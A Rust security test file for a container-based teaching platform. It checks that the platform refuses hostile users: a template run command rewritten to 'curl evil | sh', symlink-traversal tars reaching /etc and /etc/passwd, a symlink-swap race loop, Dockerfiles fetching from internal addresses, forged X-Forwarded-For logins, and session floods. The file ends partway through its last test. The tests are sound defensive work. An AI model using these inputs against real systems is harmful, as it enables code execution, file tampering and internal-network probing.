//! What a hostile student or a careless teacher must not be able to do (docs/security.md lists
//! each guarantee with the test here that holds it). Every refusal first shows that the thing
//! refused is real.

use std::sync::{Arc, Mutex};

use berth::users::Role;
use serde_json::{json, Value};
use tokio::io::{AsyncReadExt, AsyncWriteExt};

use crate::helpers::{spawn_app, spawn_app_with, TestApp, TestUser, Ws, IMAGE};
use crate::registries::{
    add_registry, docker_rmi, transfer, unique_repo, REGISTRY, REGISTRY_PASSWORD,
};
use crate::workspaces::files_url;

#[tokio::test]
async fn a_template_is_changed_or_deleted_only_by_its_creator_or_an_admin() {
    let app = spawn_app().await;
    let owner = app.new_user_with_role(Role::Teacher).await;
    let other = app.new_user_with_role(Role::Teacher).await;
    let admin = app.new_user_with_role(Role::Admin).await;
    let body = json!({"name": "lab1", "image": IMAGE, "run": {".sh": ["sh", "{file}"]}});
    let made = app
        .post("/api/v1/templates", Some(&owner.token), body)
        .await;
    assert_eq!(made.status(), 201);
    let made: Value = made.json().await.unwrap();
    assert_eq!(made["created_by"], owner.id.as_str());
    let path = format!("/api/v1/templates/{}", made["id"].as_str().unwrap());
    let patch = |token: &str, run: Value| {
        app.http
            .patch(app.url(&path))
            .bearer_auth(token)
            .json(&json!({"run": run}))
            .send()
    };

    // The creator's own change goes through: the PATCH is real.
    let own = patch(&owner.token, json!({".sh": ["sh", "-e", "{file}"]}))
        .await
        .unwrap();
    assert_eq!(own.status(), 200);

    // Another teacher may neither change what every workspace runs nor delete it.
    let hostile = patch(&other.token, json!({".sh": ["sh", "-c", "curl evil | sh"]}))
        .await
        .unwrap();
    assert_eq!(hostile.status(), 403);
    let error: Value = hostile.json().await.unwrap();
    assert_eq!(error["error"]["code"], "forbidden", "{error}");
    let deleted = app.delete(&path, Some(&other.token)).await;
    assert_eq!(deleted.status(), 403);
    let listed: Value = app
        .get("/api/v1/templates", Some(&other.token))
        .await
        .json()
        .await
        .unwrap();
    let kept = listed
        .as_array()
        .unwrap()
        .iter()
        .find(|t| t["id"] == made["id"])
        .expect("the template is still there");
    assert_eq!(kept["run"][".sh"], json!(["sh", "-e", "{file}"]));

    // An admin may change and delete anyone's; the creator stays the creator.
    let by_admin = patch(&admin.token, json!({".sh": ["sh", "{file}"]}))
        .await
        .unwrap();
    assert_eq!(by_admin.status(), 200);
    let by_admin: Value = by_admin.json().await.unwrap();
    assert_eq!(by_admin["created_by"], owner.id.as_str());
    assert_eq!(app.delete(&path, Some(&admin.token)).await.status(), 204);
}

/// A server on loopback that answers every request as a registry wanting a login, and keeps
/// each request's head: what the engine sent there.
async fn recording_registry() -> (String, Arc<Mutex<Vec<String>>>) {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let address = listener.local_addr().unwrap().to_string();
    let seen = Arc::new(Mutex::new(Vec::new()));
    let kept = seen.clone();
    tokio::spawn(async move {
        while let Ok((mut socket, _)) = listener.accept().await {
            let kept = kept.clone();
            tokio::spawn(async move {
                let mut head = vec![0u8; 8192];
                let n = socket.read(&mut head).await.unwrap_or(0);
                kept.lock()
                    .unwrap()
                    .push(String::from_utf8_lossy(&head[..n]).into_owned());
                let _ = socket
                    .write_all(
                        b"HTTP/1.1 401 Unauthorized\r\nWWW-Authenticate: Basic realm=\"r\"\r\n\
                          Docker-Distribution-API-Version: registry/2.0\r\n\
                          Content-Length: 0\r\nConnection: close\r\n\r\n",
                    )
                    .await;
            });
        }
    });
    (address, seen)
}

/// The error a pull of `image` (naming `registry`, if any) ends with.
async fn pull_error(ws: &mut Ws, stream: u8, image: &str, registry: Option<&str>) -> Value {
    let mut request = json!({"type": "pull", "stream": stream, "image": image});
    if let Some(registry) = registry {
        request["registry"] = json!(registry);
    }
    ws.send(request).await;
    loop {
        let message = ws.next_json().await;
        if message["stream"] == stream && message["type"] != "started" {
            assert_eq!(message["type"], "error", "{message}");
            return message;
        }
    }
}

#[tokio::test]
async fn a_registrys_login_is_sent_only_to_that_registry() {
    let app = spawn_app().await;
    let admin = app.new_user_with_role(Role::Admin).await;
    let student = app.new_user().await;
    let added = add_registry(&app, &admin, "school", REGISTRY_PASSWORD, true).await;
    assert_eq!(added.status(), 201);
    let (elsewhere, seen) = recording_registry().await;
    let image = format!("{elsewhere}/x:1");

    // The engine does reach that server when an admin pulls from it: a leak would show here.
    let mut ws = app.ws(&admin.token).await;
    pull_error(&mut ws, 1, &image, None).await;
    let asked = seen.lock().unwrap().len();
    assert!(asked > 0, "the engine never reached the recording server");

    // Naming the shared registry for an image of another host is refused, for anyone.
    for (user, stream) in [(&student, 2), (&admin, 3)] {
        let mut ws = app.ws(&user.token).await;
        let refused = pull_error(&mut ws, stream, &image, Some("school")).await;
        assert_eq!(refused["code"], "bad_request", "{refused}");
        assert!(
            refused["message"]
                .as_str()
                .unwrap()
                .contains("only sent to its own host"),
            "{refused}"
        );
    }
    let requests = seen.lock().unwrap().clone();
    assert_eq!(requests.len(), asked, "the engine was sent there again");
    for request in &requests {
        assert!(
            !request.to_ascii_lowercase().contains("authorization"),
            "credentials reached another host: {request}"
        );
    }

    // Its own host still gets it: the registry is asked, with the login, and answers.
    let mut ws = app.ws(&student.token).await;
    let own = format!("{REGISTRY}/berth-test/absent:1");
    let answer = pull_error(&mut ws, 4, &own, Some("school")).await;
    assert!(
        answer["message"]
            .as_str()
            .unwrap()
            .contains("manifest unknown"),
        "{answer}"
    );
}

#[tokio::test]
async fn the_engine_is_sent_only_to_hosts_an_admin_vouched_for() {
    let (vouched, vouched_seen) = recording_registry().await;
    let app = spawn_app_with(|s| s.registries.allowed_hosts = vec![vouched.clone()]).await;
    let admin = app.new_user_with_role(Role::Admin).await;
    let teacher = app.new_user_with_role(Role::Teacher).await;
    let student = app.new_user().await;
    let added = add_registry(&app, &admin, "school", REGISTRY_PASSWORD, true).await;
    assert_eq!(added.status(), 201);
    let (internal, seen) = recording_registry().await;
    let port = internal.rsplit_once(':').unwrap().1.to_string();

    // Real: an admin's pull reaches the internal server.
    let mut ws = app.ws(&admin.token).await;
    pull_error(&mut ws, 1, &format!("{internal}/x:1"), None).await;
    let asked = seen.lock().unwrap().len();
    assert!(asked > 0, "the engine never reached the internal server");

    for user in [&student, &teacher] {
        let mut ws = app.ws(&user.token).await;
        for (stream, image, registry) in [
            (2, format!("{internal}/x:1"), None),
            (3, format!("Localhost:{port}/x:1"), None),
            (4, format!("localhost:{port}/x"), None),
        ] {
            let refused = pull_error(&mut ws, stream, &image, registry).await;
            assert_eq!(refused["code"], "forbidden", "{image}: {refused}");
        }
        // The reference grammar has no IPv6 hosts: not a name at all.
        let refused = pull_error(&mut ws, 5, &format!("[::1]:{port}/x:1"), None).await;
        assert_eq!(refused["code"], "bad_request", "{refused}");
        // Naming a registry an admin added does not open another host.
        let refused = pull_error(&mut ws, 6, &format!("{internal}/x:1"), Some("school")).await;
        assert_ne!(refused["code"], "not_found", "{refused}");
        // Nor does a container made from such an image.
        let created = app
            .post(
                "/api/v1/containers",
                Some(&user.token),
                json!({"image": format!("{internal}/x:1"), "cmd": ["true"]}),
            )
            .await;
        assert_eq!(created.status(), 403);
    }
    assert_eq!(
        seen.lock().unwrap().len(),
        asked,
        "the engine went there for a non-admin"
    );

    // A host the admin listed is reached for a student.
    let mut ws = app.ws(&student.token).await;
    pull_error(&mut ws, 7, &format!("{vouched}/x:1"), None).await;
    assert!(!vouched_seen.lock().unwrap().is_empty());
}

/// An image of its own content (a file only it has, on top of the test image), so that where
/// it came from is its own and not busybox's.
fn unique_image(tag: &str) {
    let name = format!("mk-{}", &uuid::Uuid::new_v4().simple().to_string()[..8]);
    let run = std::process::Command::new("docker")
        .args(["run", "--name", &name, IMAGE, "sh", "-c"])
        .arg(format!("echo {name} > /marker"))
        .output()
        .unwrap();
    assert!(run.status.success(), "{run:?}");
    let commit = std::process::Command::new("docker")
        .args([
            "commit",
            "--change",
            "ENV SECRET_TOKEN=only-for-staff",
            &name,
            tag,
        ])
        .output()
        .unwrap();
    assert!(commit.status.success(), "{commit:?}");
    let _ = std::process::Command::new("docker")
        .args(["rm", "-f", &name])
        .output();
}

async fn create(app: &TestApp, user: &TestUser, image: &str) -> reqwest::Response {
    app.post(
        "/api/v1/containers",
        Some(&user.token),
        json!({"image": image, "cmd": ["true"]}),
    )
    .await
}

#[tokio::test]
async fn an_image_of_a_private_registry_is_used_only_by_those_who_may_use_its_login() {
    let app = spawn_app().await;
    let admin = app.new_user_with_role(Role::Admin).await;
    let teacher = app.new_user_with_role(Role::Teacher).await;
    let student = app.new_user().await;
    // The admin's own registry, not shared.
    let added = add_registry(&app, &admin, "vault", REGISTRY_PASSWORD, false).await;
    assert_eq!(added.status(), 201);
    let repo = unique_repo();
    let local = format!("{repo}:1");
    let private = format!("{REGISTRY}/{repo}:1");
    let renamed = format!("{repo}-renamed:1");
    unique_image(&local);
    for name in [&local, &private, &renamed] {
        app.track_image(name);
    }
    let mut ws = app.ws(&admin.token).await;
    ws.send(json!({"type": "push", "stream": 1, "image": local, "registry": "vault"}))
        .await;
    transfer(&mut ws, 1).await;
    docker_rmi(&private);
    docker_rmi(&local);
    ws.send(json!({"type": "pull", "stream": 2, "image": private, "registry": "vault"}))
        .await;
    transfer(&mut ws, 2).await;

    // Real: the admin may make a container of it; it is on the engine.
    let by_admin = app
        .post(
            "/api/v1/containers",
            Some(&admin.token),
            json!({"image": private, "cmd": ["true"]}),
        )
        .await;
    assert_eq!(by_admin.status(), 201, "{}", by_admin.text().await.unwrap());
    let body: Value = by_admin.json().await.unwrap();
    app.track(body["id"].as_str().unwrap());

    assert_eq!(create(&app, &student, &private).await.status(), 403);
    assert_eq!(create(&app, &teacher, &private).await.status(), 403);
    // A teacher cannot launder it under another name, nor take it away as a tar.
    let rename = |token: String| {
        let (path, body) = (
            format!("/api/v1/images/{private}/tag"),
            json!({"repo": format!("{repo}-renamed"), "tag": "1"}),
        );
        let app = &app;
        async move { app.post(&path, Some(&token), body).await.status() }
    };
    assert_eq!(rename(teacher.token.clone()).await, 403);
    let export = app
        .get(
            &format!("/api/v1/images/{private}/export"),
            Some(&teacher.token),
        )
        .await;
    assert_eq!(export.status(), 403);
    // Renamed by the admin and its registry name removed, it is still the registry's.
    assert_eq!(rename(admin.token.clone()).await, 200);
    docker_rmi(&private);
    let refused = create(&app, &student, &renamed).await;
    assert_eq!(refused.status(), 403);
    let refused: Value = refused.json().await.unwrap();
    assert!(
        refused["error"]["message"]
            .as_str()
            .unwrap()
            .contains("private registry"),
        "{refused}"
    );

    // Students see no environment of an image; staff do.
    let details = format!("/api/v1/images/{renamed}");
    let staff: Value = app
        .get(&details, Some(&teacher.token))
        .await
        .json()
        .await
        .unwrap();
    let env = staff["config"]["env"].to_string();
    assert!(env.contains("SECRET_TOKEN"), "{staff}");
    let seen: Value = app
        .get(&details, Some(&student.token))
        .await
        .json()
        .await
        .unwrap();
    assert!(seen["config"]["env"].is_null(), "{seen}");
    assert!(!seen.to_string().contains("only-for-staff"));

    // Through a template the admin made, a student gets a workspace of it.
    let template = app
        .post(
            "/api/v1/templates",
            Some(&admin.token),
            json!({"name": format!("vault-{}", &repo[repo.len() - 8..]), "image": renamed,
                   "run": {".sh": ["sh", "{file}"]}}),
        )
        .await;
    assert_eq!(template.status(), 201);
    let template: Value = template.json().await.unwrap();
    let workspace = app
        .post(
            "/api/v1/workspaces",
            Some(&student.token),
            json!({"template": template["id"]}),
        )
        .await;
    assert_eq!(
        workspace.status(),
        201,
        "{}",
        workspace.text().await.unwrap()
    );
    let workspace: Value = workspace.json().await.unwrap();
    let id = workspace["id"].as_str().unwrap();
    app.track(&format!("berth-ws-{id}"));
    app.track_volume(&format!("berth-ws-{id}"));
}

/// A tar of `entries`: (name, Some(link target)) for a symlink, (name, None) for a small file.
fn tar_of(entries: &[(&str, Option<&str>)]) -> Vec<u8> {
    let mut tar = tar::Builder::new(Vec::new());
    for (name, target) in entries {
        let mut header = tar::Header::new_gnu();
        match target {
            Some(target) => {
                header.set_entry_type(tar::EntryType::Symlink);
                header.set_size(0);
                header.set_mode(0o777);
                tar.append_link(&mut header, name, target).unwrap();
            }
            None => {
                header.set_size(5);
                header.set_mode(0o644);
                header.set_cksum();
                tar.append_data(&mut header, name, &b"evil\n"[..]).unwrap();
            }
        }
    }
    tar.into_inner().unwrap()
}

/// Whether `path` exists in the container, as root sees it.
fn exists_in(container: &str, path: &str) -> bool {
    std::process::Command::new("docker")
        .args(["exec", container, "test", "-e", path])
        .status()
        .unwrap()
        .success()
}

async fn put_tar(
    app: &TestApp,
    user: &TestUser,
    id: &str,
    dir: &str,
    tar: Vec<u8>,
) -> (u16, String) {
    let response = app
        .http
        .put(files_url(app, id, "/archive", dir))
        .bearer_auth(&user.token)
        .body(tar)
        .send()
        .await
        .unwrap();
    (response.status().as_u16(), response.text().await.unwrap())
}

#[tokio::test]
async fn an_uploaded_tar_cannot_climb_out_of_the_workspace() {
    let app = spawn_app().await;
    let teacher = app.new_user_with_role(Role::Teacher).await;
    let student = app.new_user().await;
    let made = crate::workspaces::template(&app, &teacher, json!({})).await;
    let id = crate::workspaces::workspace(&app, &student, &made).await;
    let container = format!("berth-ws-{id}");
    let marker = format!(
        "/etc/berth-{}",
        &uuid::Uuid::new_v4().simple().to_string()[..8]
    );
    let name = marker.trim_start_matches("/etc/");
    let through_link = tar_of(&[("l", Some("/etc")), (&format!("l/{name}"), None)]);

    // Real: the engine itself, given that tar, writes into the container's /etc as root.
    let mut cp = std::process::Command::new("docker")
        .args(["cp", "-", &format!("{container}:/tmp")])
        .stdin(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    std::io::Write::write_all(cp.stdin.as_mut().unwrap(), &through_link).unwrap();
    assert!(cp.wait().unwrap().success());
    assert!(
        exists_in(&container, &marker),
        "the engine did not follow the link"
    );
    std::process::Command::new("docker")
        .args(["exec", &container, "rm", "-f", &marker])
        .status()
        .unwrap();

    // That tar is refused, naming the link, and nothing of it is unpacked.
    let (status, body) = put_tar(&app, &student, &id, "up", through_link).await;
    assert_eq!(status, 400, "{body}");
    assert!(body.contains("l -> /etc"), "{body}");
    assert!(!exists_in(&container, &marker));
    assert!(!exists_in(&container, "/workspace/up/l"), "half unpacked");
    for (entries, says) in [
        (vec![("m", Some("../../../.."))], "m -> ../../../.."),
        (vec![("abs", Some("/etc/passwd"))], "abs -> /etc/passwd"),
        (vec![("d/x", Some("../../up"))], "d/x -> ../../up"),
        (
            vec![("s/a", Some("..")), ("s/b", Some("a/.."))],
            "s/b -> a/..",
        ),
        (vec![("ok.txt", None), ("bad", Some("/"))], "bad -> /"),
        // Beneath a symlink of the same tar, even one that points inside.
        (
            vec![("in", Some("sub")), ("in/x", None)],
            "in/x, beneath its own symlink in",
        ),
    ] {
        let (status, body) = put_tar(&app, &student, &id, "up", tar_of(&entries)).await;
        assert_eq!(status, 400, "{says}: {body}");
        assert!(body.contains(says), "{body}");
    }
    assert!(
        !exists_in(&container, "/workspace/up/ok.txt"),
        "a refused tar was half unpacked"
    );

    // Links that stay inside are kept as links.
    let good = tar_of(&[
        ("sub/x", None),
        ("here", Some("sub/x")),
        ("sub/up", Some("../sub")),
    ]);
    let (status, body) = put_tar(&app, &student, &id, "up", good).await;
    assert_eq!(status, 204, "{body}");
    let listed = crate::workspaces::list_dir(&app, &student, &id, "up").await;
    let here = listed
        .as_array()
        .unwrap()
        .iter()
        .find(|e| e["name"] == "here");
    assert_eq!(here.unwrap()["kind"], "symlink", "{listed}");

    // A symlink the user made in the workspace is not followed either.
    let mut ws = app.ws(&student.token).await;
    ws.send(json!({"type": "exec", "stream": 1, "workspace": id,
                   "cmd": ["ln", "-s", "/etc", "/workspace/sys"]}))
        .await;
    assert_eq!(ws.collect(1).await.code, Some(0));
    let (status, body) = put_tar(
        &app,
        &student,
        &id,
        "",
        tar_of(&[(&format!("sys/{name}"), None)]),
    )
    .await;
    assert_eq!(status, 400, "{body}");
    assert!(body.contains("sys"), "{body}");
    let (status, body) = put_tar(&app, &student, &id, "sys", tar_of(&[(name, None)])).await;
    assert_eq!(status, 400, "{body}");
    assert!(!exists_in(&container, &marker));
}

#[tokio::test]
async fn a_file_write_is_not_turned_outside_by_a_symlink_swapped_in_meanwhile() {
    let app = spawn_app().await;
    let teacher = app.new_user_with_role(Role::Teacher).await;
    let student = app.new_user().await;
    let made = crate::workspaces::template(&app, &teacher, json!({})).await;
    let id = crate::workspaces::workspace(&app, &student, &made).await;
    let container = format!("berth-ws-{id}");
    // The student's own process swaps `d` between a directory and a link to /etc, without end.
    let mut ws = app.ws(&student.token).await;
    ws.send(
        json!({"type": "exec", "stream": 1, "workspace": id, "cmd": ["sh", "-c",
        "cd /workspace; while true; do rm -rf d; mkdir d; rm -rf d; ln -s /etc d; done"]}),
    )
    .await;
    ws.expect("started", 1).await;
    let (mut written, mut refused) = (0, 0);
    for _ in 0..100 {
        match crate::workspaces::put_file(&app, &student, &id, "d/berth-swapped", b"x".to_vec())
            .await
        {
            204 => written += 1,
            400 => refused += 1,
            other => panic!("write answered {other}"),
        }
    }
    // Both shapes were met, so the swap really raced the writes.
    assert!(
        written > 0 && refused > 0,
        "{written} written, {refused} refused"
    );
    assert!(
        !exists_in(&container, "/etc/berth-swapped"),
        "a write went through the swapped-in symlink"
    );
}

/// A session request for `token`, as `Ws::connect` makes it.
fn ws_request(
    app: &TestApp,
    token: &str,
) -> tokio_tungstenite::tungstenite::handshake::client::Request {
    use tokio_tungstenite::tungstenite::client::IntoClientRequest;
    let mut request = format!("ws://{}/api/v1/ws", app.address)
        .into_client_request()
        .unwrap();
    request
        .headers_mut()
        .insert("authorization", format!("Bearer {token}").parse().unwrap());
    request
}

#[tokio::test]
async fn one_user_cannot_hold_more_sessions_or_tickets_than_the_limit() {
    let app = spawn_app_with(|s| s.session.max_sessions_per_user = 4).await;
    let student = app.new_user().await;
    let other = app.new_user().await;
    let mut open = Vec::new();
    for _ in 0..4 {
        open.push(app.ws(&student.token).await);
    }
    match Ws::open(ws_request(&app, &student.token)).await {
        Err(tokio_tungstenite::tungstenite::Error::Http(response)) => {
            assert_eq!(response.status(), 429);
            let body = String::from_utf8_lossy(response.body().as_deref().unwrap_or_default())
                .into_owned();
            assert!(body.contains("too_many"), "{body}");
        }
        other => panic!("a fifth session was not refused: {other:?}"),
    }
    // Someone else is not affected, and a closed session makes room.
    app.ws(&other.token).await;
    drop(open.pop());
    let mut reopened = None;
    for _ in 0..50 {
        if let Ok(ws) = Ws::open(ws_request(&app, &student.token)).await {
            reopened = Some(ws);
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    }
    assert!(reopened.is_some(), "a closed session did not make room");

    // Tickets: a bounded number live at once.
    let mut statuses = Vec::new();
    for _ in 0..20 {
        let response = app
            .post("/api/v1/ws/ticket", Some(&student.token), json!({}))
            .await;
        statuses.push(response.status().as_u16());
    }
    assert_eq!(
        statuses.iter().filter(|s| **s == 200).count(),
        16,
        "{statuses:?}"
    );
    assert_eq!(statuses.last(), Some(&429));
}

#[tokio::test]
async fn stdin_a_process_does_not_read_is_bounded_in_bytes() {
    let app = spawn_app().await;
    let student = app.new_user().await;
    let container = app.running_container(&student, &["sleep", "3600"]).await;
    let mut ws = app.ws(&student.token).await;
    ws.exec(1, &container, &["sleep", "3600"], false).await;
    let chunk = vec![b'x'; 512 * 1024];
    let mut accepted = 0usize;
    let refused = loop {
        ws.stdin(1, &chunk).await;
        match ws.next_within(std::time::Duration::from_millis(100)).await {
            Some(crate::helpers::Frame::Json(error)) if error["type"] == "error" => break error,
            Some(other) => panic!("unexpected {other:?}"),
            None => accepted += chunk.len(),
        }
        assert!(
            accepted < 64 << 20,
            "64 MiB of stdin taken without a refusal"
        );
    };
    assert_eq!(refused["code"], "too_many", "{refused}");
    // One MiB queued, and what the pipe and the sockets on the way hold.
    assert!(accepted <= 6 << 20, "{accepted} bytes taken");
    // The stream and the session go on.
    ws.send(json!({"type": "ping", "t": 1})).await;
    assert_eq!(ws.next_json().await["type"], "pong");
}

#[tokio::test]
async fn a_message_in_continuation_frames_is_not_assembled_past_the_limit() {
    let app = spawn_app_with(|s| s.session.max_frame_bytes = 64 * 1024).await;
    let student = app.new_user().await;
    // Within the limit, fragments make one message.
    let mut ws = app.ws(&student.token).await;
    ws.send_fragments(&[br#"{"type":"ping","#, br#""t":7}"#])
        .await;
    assert_eq!(ws.next_json().await, json!({"type": "pong", "t": 7}));
    // Far past it, the connection closes rather than buffer the rest.
    let part = vec![b'a'; 60 * 1024];
    let parts: Vec<&[u8]> = std::iter::once(&br#"{"type":"ping","t":""#[..])
        .chain(std::iter::repeat_n(&part[..], 40))
        .collect();
    ws.send_fragments(&parts).await;
    loop {
        match ws.next().await {
            crate::helpers::Frame::Closed(_) => break,
            crate::helpers::Frame::Json(v) => {
                assert_ne!(v["type"], "pong", "2.4 MiB were assembled: {v}")
            }
            _ => {}
        }
    }
}

async fn login_from(app: &TestApp, forwarded_for: &str, username: &str, password: &str) -> u16 {
    app.http
        .post(app.url("/api/v1/auth/login"))
        .header("x-forwarded-for", forwarded_for)
        .json(&json!({"username": username, "password": password}))
        .send()
        .await
        .unwrap()
        .status()
        .as_u16()
}

#[tokio::test]
async fn wrong_passwords_from_one_address_do_not_lock_the_teacher_out() {
    // berth behind a proxy on loopback: the proxy says who the client is.
    let app = spawn_app_with(|s| s.trusted_proxies = vec!["127.0.0.1/32".into()]).await;
    let teacher = app.new_user_with_role(Role::Teacher).await;
    let attacker = "203.0.113.5";
    for _ in 0..5 {
        assert_eq!(
            login_from(&app, attacker, &teacher.username, "guess").await,
            401
        );
    }
    // Real: the attacker's address is locked out of the account, even with the right password,
    // and a forged hop in front of the proxy's own does not change who it is.
    assert_eq!(
        login_from(&app, attacker, &teacher.username, &teacher.password).await,
        429
    );
    let forged = format!("198.51.100.99, {attacker}");
    assert_eq!(
        login_from(&app, &forged, &teacher.username, &teacher.password).await,
        429
    );
    // The teacher, at their own address, signs in.
    let own = "198.51.100.7";
    assert_eq!(
        login_from(&app, own, &teacher.username, &teacher.password).await,
        200
    );

    // Without the proxy trusted, the header is the client's own word and counts for nothing.
    let direct = spawn_app().await;
    let student = direct.new_user().await;
    for n in 0..5 {
        let spoofed = format!("192.0.2.{n}");
        assert_eq!(
            login_from(&direct, &spoofed, &student.username, "guess").await,
            401
        );
    }
    assert_eq!(
        login_from(&direct, "192.0.2.200", &student.username, "guess").await,
        429
    );
}

#[tokio::test]
async fn parallel_creations_cannot_pass_a_quota_together() {
    let app = spawn_app_with(|s| {
        s.quotas.workspaces_per_user = 2;
        s.quotas.memory_mb_per_user = 512;
    })
    .await;
    let teacher = app.new_user_with_role(Role::Teacher).await;
    let made = crate::workspaces::template(&app, &teacher, json!({"memory_mb": 64})).await;

    // Eight workspaces at once, two allowed.
    let student = app.new_user().await;
    let asks = (0..8).map(|n| {
        app.post(
            "/api/v1/workspaces",
            Some(&student.token),
            json!({"template": made["id"], "name": format!("w{n}")}),
        )
    });
    let answers = futures_util::future::join_all(asks).await;
    let mut created = 0;
    for answer in answers {
        match answer.status().as_u16() {
            201 => {
                let body: Value = answer.json().await.unwrap();
                let id = body["id"].as_str().unwrap();
                app.track(&format!("berth-ws-{id}"));
                app.track_volume(&format!("berth-ws-{id}"));
                created += 1;
            }
            409 | 403 | 429 => {
                let body: Value = answer.json().await.unwrap();
                assert_eq!(body["error"]["code"], "quota_exceeded", "{body}");
            }
            other => panic!("a creation answered {other}"),
        }
    }
    assert_eq!(created, 2, "the workspace quota held");

    // Ten containers of 128 MiB at once against 512 MiB: four fit.
    let other = app.new_user().await;
    let asks = (0..10).map(|_| {
        app.post(
            "/api/v1/containers",
            Some(&other.token),
            json!({"image": IMAGE, "cmd": ["sleep", "60"], "memory_mb": 128}),
        )
    });
    let answers = futures_util::future::join_all(asks).await;
    let mut created = 0;
    for answer in answers {
        let status = answer.status().as_u16();
        let body: Value = answer.json().await.unwrap();
        if status == 201 {
            app.track(body["id"].as_str().unwrap());
            created += 1;
        } else {
            assert_eq!(body["error"]["code"], "quota_exceeded", "{body}");
        }
    }
    assert_eq!(created, 4, "the memory quota held");
    // Removing one gives its memory back.
    let containers: Value = app
        .get("/api/v1/containers", Some(&other.token))
        .await
        .json()
        .await
        .unwrap();
    let first = containers[0]["id"].as_str().unwrap().to_string();
    let removed = app
        .delete(&format!("/api/v1/containers/{first}"), Some(&other.token))
        .await;
    assert_eq!(removed.status(), 204);
    let again = app
        .post(
            "/api/v1/containers",
            Some(&other.token),
            json!({"image": IMAGE, "cmd": ["sleep", "60"], "memory_mb": 128}),
        )
        .await;
    assert_eq!(again.status(), 201);
    let body: Value = again.json().await.unwrap();
    app.track(body["id"].as_str().unwrap());
}

/// The messages of a build until it ends (`end`) or fails (`error`), and which it was.
async fn build(ws: &mut Ws, stream: u8, context: &str, tag: &str) -> (Vec<String>, Value) {
    build_on(ws, None, stream, context, tag).await
}

async fn build_on(
    ws: &mut Ws,
    host: Option<&str>,
    stream: u8,
    context: &str,
    tag: &str,
) -> (Vec<String>, Value) {
    ws.send(
        json!({"type": "build", "stream": stream, "context": context, "tag": tag,
                   "host": host}),
    )
    .await;
    let mut log = Vec::new();
    loop {
        let message = ws.next_json().await;
        if message["stream"] != stream {
            continue;
        }
        match message["type"].as_str().unwrap() {
            "progress" => log.push(message["log"].as_str().unwrap_or("").to_string()),
            "end" | "error" => return (log, message),
            _ => {}
        }
    }
}

#[tokio::test]
async fn a_teachers_build_fetches_nothing_internal_and_runs_under_limits() {
    let app = spawn_app_with(|s| {
        s.builds.memory_mb = 256;
        s.builds.cpus = 0.5;
    })
    .await;
    let admin = app.new_user_with_role(Role::Admin).await;
    let teacher = app.new_user_with_role(Role::Teacher).await;
    let (internal, seen) = recording_registry().await;
    let fetching = format!("FROM {IMAGE}\nADD http://{internal}/secret /secret\n");

    // Real: an admin's build of it makes the engine fetch from the internal address.
    let context = crate::builds::context(&app, &admin, &fetching).await;
    let mut ws = app.ws(&admin.token).await;
    build(&mut ws, 1, &context, &crate::builds::unique_tag()).await;
    let asked = seen.lock().unwrap().len();
    assert!(asked > 0, "the engine never fetched the URL");

    let mut ws = app.ws(&teacher.token).await;
    for (stream, dockerfile) in [
        (2, fetching.clone()),
        (
            3,
            format!("FROM {IMAGE}\nadd [\"http://{internal}/x\", \"/x\"]\n"),
        ),
        (4, format!("FROM {internal}/base:1\n")),
        (
            5,
            format!("FROM {IMAGE}\nCOPY --from={internal}/base:1 /a /a\n"),
        ),
    ] {
        let context = crate::builds::context(&app, &teacher, &dockerfile).await;
        let (_, ended) = build(&mut ws, stream, &context, &crate::builds::unique_tag()).await;
        assert_eq!(ended["type"], "error", "{dockerfile}: {ended}");
        assert_eq!(ended["code"], "forbidden", "{dockerfile}: {ended}");
    }
    assert_eq!(
        seen.lock().unwrap().len(),
        asked,
        "the engine fetched for a teacher"
    );

    // A pasted Dockerfile is at most 1 MiB.
    let huge = format!("FROM {IMAGE}\n{}", "# padding\n".repeat(110_000));
    let refused = crate::builds::upload_dockerfile(&app, &teacher, &huge).await;
    assert_eq!(refused.status(), 413);

    // Its steps run with the settings' memory and CPU limits.
    let limits = format!(
        "FROM {IMAGE}\nRUN echo mem=$(cat /sys/fs/cgroup/memory/memory.limit_in_bytes \
         /sys/fs/cgroup/memory.max 2>/dev/null) cpu=$(cat /sys/fs/cgroup/cpu/cpu.cfs_quota_us \
         /sys/fs/cgroup/cpu.max 2>/dev/null) {}\n",
        uuid::Uuid::new_v4()
    );
    let context = crate::builds::context(&app, &teacher, &limits).await;
    let tag = crate::builds::unique_tag();
    app.track_image(&tag);
    let (log, ended) = build(&mut ws, 6, &context, &tag).await;
    assert_eq!(ended["type"], "end", "{ended}");
    let line = log
        .iter()
        .find(|l| l.starts_with("mem="))
        .unwrap_or_else(|| panic!("{log:?}"));
    assert!(line.contains(&(256u64 << 20).to_string()), "{line}");
    assert!(line.contains("50000"), "{line}");
}

/// A Dockerfile whose one step starts `n` processes at once and says whether all started, and
/// under which pids cgroup.
fn forking(n: u32) -> String {
    format!(
        "FROM {IMAGE}\nRUN cat /proc/self/cgroup; for i in $(seq {n}); do sleep 2 & done; \
         wait && echo forked {n} {}\n",
        uuid::Uuid::new_v4()
    )
}

#[tokio::test]
async fn a_build_is_held_to_its_process_limit_or_refused_where_it_cannot_be() {
    let app = spawn_app_with(|s| s.builds.pids = 48).await;
    let admin = app.new_user_with_role(Role::Admin).await;
    let teacher = app.new_user_with_role(Role::Teacher).await;
    let mut ws = app.ws(&teacher.token).await;

    // Real: a step may start processes, up to the limit.
    let context = crate::builds::context(&app, &teacher, &forking(20)).await;
    let tag = crate::builds::unique_tag();
    app.track_image(&tag);
    let (log, ended) = build(&mut ws, 1, &context, &tag).await;
    assert_eq!(ended["type"], "end", "{ended} {log:?}");
    assert!(log.iter().any(|l| l.starts_with("forked 20")), "{log:?}");
    // The step ran beneath a cgroup of the build's own, which is gone afterwards.
    // Under cgroup v1 the pids hierarchy names it; under v2 the one unified hierarchy does.
    let in_cgroup = |line: &str| -> Option<(&'static str, String)> {
        let (hierarchy, rest) = match line.split_once(":pids:/berth-builds/") {
            Some((_, rest)) => ("pids/", rest),
            None => ("", line.split_once("0::/berth-builds/")?.1),
        };
        Some((hierarchy, rest.split('/').next()?.to_string()))
    };
    let (hierarchy, cgroup) = log
        .iter()
        .find_map(|line| in_cgroup(line))
        .unwrap_or_else(|| panic!("no berth-builds cgroup in {log:?}"));
    let dir = format!("/sys/fs/cgroup/{hierarchy}berth-builds/{cgroup}");
    let removed = crate::helpers::eventually(std::time::Duration::from_secs(10), || {
        !std::path::Path::new(&dir).exists()
    })
    .await;
    assert!(removed.is_some(), "{dir} is still there");

